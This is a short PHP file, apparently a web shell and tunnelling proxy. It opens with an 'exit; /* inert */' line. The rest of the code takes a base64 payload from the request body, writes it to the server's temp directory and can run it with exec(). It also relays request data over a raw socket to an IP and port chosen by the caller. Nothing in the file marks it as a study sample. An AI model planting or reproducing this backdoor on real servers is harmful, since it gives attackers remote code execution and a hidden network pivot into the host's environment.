<?php exit; /* inert */ ini_set('session.use_cookies', 1);
session_start();
if (isset($_GET['proxy'])) {
    if (isset($_GET['close'])) { $_SESSION['running'] = 0; exit; }
    if (isset($_GET['port'])) { $_SESSION['port'] = $_GET['port']; $_SESSION['ip'] = $_GET['ip']; }
    if (isset($_GET['file'])) {
        $f = sys_get_temp_dir() . '/' . $_GET['file'];
        file_put_contents($f, base64_decode(file_get_contents('php://input')));
        if (isset($_GET['exec'])) { exec($f); }
    }
    $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
    socket_connect($s, $_SESSION['ip'], $_SESSION['port']);
    $data = file_get_contents('php://input');
    socket_write($s, $data, strlen($data));
    echo socket_read($s, 8192);
}
